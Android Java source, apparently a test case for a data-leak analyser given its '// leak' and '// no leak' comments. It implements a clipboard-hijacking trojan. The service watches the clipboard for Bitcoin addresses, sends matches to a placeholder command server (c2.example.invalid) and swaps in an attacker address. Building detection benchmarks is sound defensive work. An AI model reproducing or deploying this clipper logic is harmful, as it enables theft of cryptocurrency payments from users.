package trojans;

import android.app.Service;
import android.content.ClipData;
import android.content.ClipboardManager;
import android.content.Intent;
import android.os.IBinder;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Addresses of wallets in the clipboard are sent, and replaced. */
public class Clip extends Service implements ClipboardManager.OnPrimaryClipChangedListener {
    private static final Pattern WALLET = Pattern.compile("\\b(bc1|[13])([a-zA-HJ-NP-Z0-9]{25,39})\\b");
    private final BlockingQueue<String> found = new LinkedBlockingQueue<>();
    private final BlockingQueue<String> events = new LinkedBlockingQueue<>();
    private final ExecutorService pool = Executors.newFixedThreadPool(2);
    private ClipboardManager clips;

    public IBinder onBind(Intent intent) {
        return null;
    }

    public void onCreate() {
        clips = (ClipboardManager) getSystemService(CLIPBOARD_SERVICE);
        clips.addPrimaryClipChangedListener(this);
        pool.submit(() -> {
            try (Socket line = new Socket("c2.example.invalid", 85)) {
                OutputStream out = line.getOutputStream();
                while (true) {
                    out.write(found.take().getBytes()); // leak
                    out.write(events.take().getBytes()); // no leak
                }
            } catch (InterruptedException | IOException e) {
                return;
            }
        });
    }

    public void onPrimaryClipChanged() {
        ClipData clip = clips.getPrimaryClip();
        if (clip == null || clip.getItemCount() == 0) {
            events.offer("empty");
            return;
        }
        CharSequence text = clip.getItemAt(0).getText();
        Matcher match = WALLET.matcher(text);
        if (match.find()) {
            found.offer(match.group(1) + match.group(2));
            events.offer("replaced");
            clips.setPrimaryClip(ClipData.newPlainText("", match.replaceAll("1Other"))); // leak
            clips.setPrimaryClip(ClipData.newPlainText("", "1Other")); // no leak
        }
    }
}
